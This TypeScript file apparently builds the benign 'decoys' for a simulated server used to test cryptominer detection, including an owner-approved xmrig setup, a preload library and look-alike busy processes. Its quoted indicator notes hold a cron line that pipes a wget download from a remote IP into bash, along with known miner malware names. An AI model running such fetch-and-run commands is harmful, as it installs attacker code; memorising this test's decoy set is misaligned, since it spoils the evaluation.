import type { Item } from './host-part.ts'
import { minerWords, poolPort, wallet } from './host-part.ts'
import { loginKey } from './login-key.ts'

export interface Decoys {
  /** Paths of a package that is built and installed first: what dpkg then owns. */
  readonly package: { readonly name: string; readonly files: readonly Item[] }
  /** Lie on the disk before it is first booted, and are as old as a server that has run for months. */
  readonly files: readonly Item[]
  /** Programs of the administrator that run. Each ends by itself. */
  readonly processes: readonly Item[]
  /** Lines of shell, run once everything is up. */
  readonly afterBoot: readonly string[]
  /** What the administrator has allowed, with the reason. */
  readonly allowed: readonly { readonly path: string; readonly reason: string }[]
}

/** The administrator's key, in root's and deploy's authorized_keys. */
export const administratorKey = loginKey('ssh-ed25519', 'administrator', 'anna@laptop')

const service = (description: string, start: string) =>
  `[Unit]\nDescription=${description}\n\n[Service]\nExecStart=${start}\nRestart=always\nRestartSec=5\n\n[Install]\nWantedBy=multi-user.target\n`

const research = `# Indicators of cryptomining campaigns

Notes for the team. Everything below is quoted text.

- \`* * * * * wget -q -O - http://198.51.100.19/unk.sh | bash > /dev/null 2>&1\`
- \`/opt/sysetmd\`, \`A_li_yun_Duns\`, \`shaojiang99\`, \`/etc/kinsing\`, \`kdevtmpfsi\`, \`/etc/libsystem.so\`
- \`.configrc7/a/kswapd00\`, \`mdrfckr\`, \`/tmp/.X2c4-unix/.rsync\`
- wallet ${wallet}
- ${minerWords.replaceAll('\n', '\n- ')}
`

/** What must never be flagged or touched (families.md §17): legitimate things that look like a miner's. */
export const decoys: Decoys = {
  package: {
    name: 'davylamp-range-decoys',
    files: [
      {
        kind: 'file',
        path: '/usr/lib/x86_64-linux-gnu/libdavylamp-range-quiet.so',
        content: { library: 'hide-readdir', hides: [] },
        mode: 0o644,
      },
      {
        kind: 'file',
        path: '/usr/bin/gcc-12',
        content: { lookalike: { seconds: 600, keepsRunning: ['/usr/lib/gcc/x86_64-linux-gnu/12/cc1'] } },
        mode: 0o755,
      },
      {
        kind: 'file',
        path: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1',
        content: { lookalike: { burn: 100, seconds: 600, once: 'cc1' } },
        mode: 0o755,
      },
      // In the place of what fetches; they end at once.
      {
        kind: 'file',
        path: '/usr/bin/curl',
        content: { lookalike: { seconds: 1 }, words: 'curl of the range' },
        mode: 0o755,
      },
      {
        kind: 'file',
        path: '/usr/bin/wget',
        content: { lookalike: { seconds: 1 }, words: 'wget of the range' },
        mode: 0o755,
      },
      {
        kind: 'file',
        path: '/usr/sbin/inventoryd',
        content: { lookalike: {}, words: 'inventory service' },
        mode: 0o755,
      },
    ],
  },
  files: [
    { kind: 'account', name: 'deploy', uid: 1001, home: '/home/deploy', shadow: '!' },
    { kind: 'account', name: 'science', uid: 1002, home: '/home/science', shadow: '!' },
    { kind: 'file', path: '/root/.ssh/authorized_keys', content: { text: `${administratorKey}\n` }, mode: 0o600 },
    { kind: 'line', path: '/etc/ld.so.preload', text: '/usr/lib/x86_64-linux-gnu/libdavylamp-range-quiet.so' },
    {
      kind: 'file',
      path: '/etc/cron.d/healthcheck',
      content: { text: '17 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://health.invalid/ping/4f9c\n' },
    },
    {
      kind: 'file',
      path: '/etc/cron.d/certbot',
      content: {
        text: "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n",
      },
    },
    {
      kind: 'file',
      path: '/var/spool/cron/crontabs/root',
      content: {
        text: '# m h  dom mon dow   command\n30 2 * * * rsync -a --delete /srv/data/ backup@192.0.2.20:/backup/lamp/ >/dev/null 2>&1\n0 4 * * 1 /usr/bin/find /var/tmp -mtime +60 -delete\n',
      },
      mode: 0o600,
    },
    {
      kind: 'file',
      path: '/etc/sysctl.d/30-postgresql-shm.conf',
      content: { text: '# shared buffers of 4 GB in huge pages\nvm.nr_hugepages = 2200\nvm.swappiness = 1\n' },
    },
    { kind: 'file', path: '/root/research/miner-indicators.md', content: { text: research } },
    {
      kind: 'file',
      path: '/opt/xmrig/xmrig',
      content: { lookalike: { burn: 20, pool: poolPort }, words: `${minerWords}\nthe administrator's own` },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/opt/xmrig/config.json',
      content: {
        text: `${JSON.stringify({ 'donate-level': 1, pools: [{ url: `127.0.0.1:${poolPort}`, user: wallet, keepalive: true, nicehash: false, 'rig-id': 'lamp' }], randomx: { wrmsr: false }, cpu: { 'max-threads-hint': 50 } }, null, 2)}\n`,
      },
    },
    {
      kind: 'file',
      path: '/etc/systemd/system/xmrig.service',
      content: {
        text: service(
          'xmrig, agreed with the owner of this server',
          '/opt/xmrig/xmrig --config=/opt/xmrig/config.json',
        ),
      },
    },
    { kind: 'unit', name: 'xmrig.service', path: '/etc/systemd/system/xmrig.service' },
    {
      kind: 'file',
      path: '/usr/local/aegis/aegis_client/aegis_12_34/AliYunDun',
      content: { lookalike: {}, words: 'genuine agent' },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/etc/systemd/system/aegis.service',
      content: { text: service('Aegis Service', '/usr/local/aegis/aegis_client/aegis_12_34/AliYunDun') },
    },
    { kind: 'unit', name: 'aegis.service', path: '/etc/systemd/system/aegis.service' },
    { kind: 'file', path: '/opt/shop/server', content: { lookalike: { burn: 5 }, words: 'web shop' }, mode: 0o755 },
    {
      kind: 'file',
      path: '/etc/systemd/system/shop.service',
      content: { text: service('Web shop', '/opt/shop/server --port 8080') },
    },
    { kind: 'unit', name: 'shop.service', path: '/etc/systemd/system/shop.service' },
    {
      kind: 'file',
      path: '/etc/systemd/system/inventoryd.service',
      content: { text: service('Inventory', '/usr/sbin/inventoryd') },
    },
    { kind: 'unit', name: 'inventoryd.service', path: '/etc/systemd/system/inventoryd.service' },
    {
      kind: 'file',
      path: '/home/science/run/simulate',
      content: { lookalike: { burn: 60, threads: 1, seconds: 600 }, words: 'lattice simulation' },
      owner: 'science',
      mode: 0o755,
    },
    { kind: 'line', path: '/root/.bashrc', text: "alias ll='ls -alF'" },
    { kind: 'line', path: '/etc/hosts', text: '192.0.2.20 backup' },
    {
      kind: 'file',
      path: '/var/lib/docker/containers/7d1e4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70/config.v2.json',
      content: {
        text: `${JSON.stringify({ ID: '7d1e4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70', Name: '/shop-cache', Created: '2026-03-01T08:00:00Z', Path: 'docker-entrypoint.sh', Args: ['redis-server'], Config: { Image: 'redis:7', Cmd: ['redis-server'], Entrypoint: ['docker-entrypoint.sh'] }, State: { Running: false } })}\n`,
      },
      mode: 0o600,
    },
    {
      kind: 'file',
      path: '/var/lib/docker/containers/7d1e4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70/hostconfig.json',
      content: {
        text: '{"RestartPolicy":{"Name":"always","MaximumRetryCount":0},"Privileged":false,"NetworkMode":"default","Binds":[]}\n',
      },
    },
    { kind: 'attribute', path: '/etc/resolv.conf', flag: 'i' },
  ],
  processes: [
    {
      kind: 'process',
      path: '/usr/bin/xz',
      argv: ['/usr/bin/timeout', '600', '/usr/bin/nice', '-n', '19', '/usr/bin/xz', '-9', '-c', '/dev/zero'],
    },
    {
      kind: 'process',
      path: '/usr/bin/gcc-12',
      argv: ['/usr/bin/nice', '-n', '19', '/usr/bin/gcc-12', '-O2', '-c', 'kernel.c'],
    },
    {
      kind: 'process',
      path: '/home/science/run/simulate',
      argv: ['/usr/bin/nice', '-n', '19', '/home/science/run/simulate', '--lattice', '64'],
      user: 'science',
      cwd: '/home/science/run',
    },
  ],
  afterBoot: [
    // A socket where an X server keeps its own.
    `perl -MSocket -e 'socket(S,AF_UNIX,SOCK_STREAM,0); bind(S,pack_sockaddr_un("/tmp/.X11-unix/X0")) or die'`,
    // An upgrade: the program that runs is no longer the file on the disk.
    'cp -p /usr/sbin/inventoryd /usr/sbin/inventoryd.dpkg-new && mv /usr/sbin/inventoryd.dpkg-new /usr/sbin/inventoryd',
  ],
  allowed: [
    { path: '/opt/xmrig/xmrig', reason: 'agreed with the owner of this server' },
    { path: '/opt/xmrig/config.json', reason: 'agreed with the owner of this server' },
  ],
}
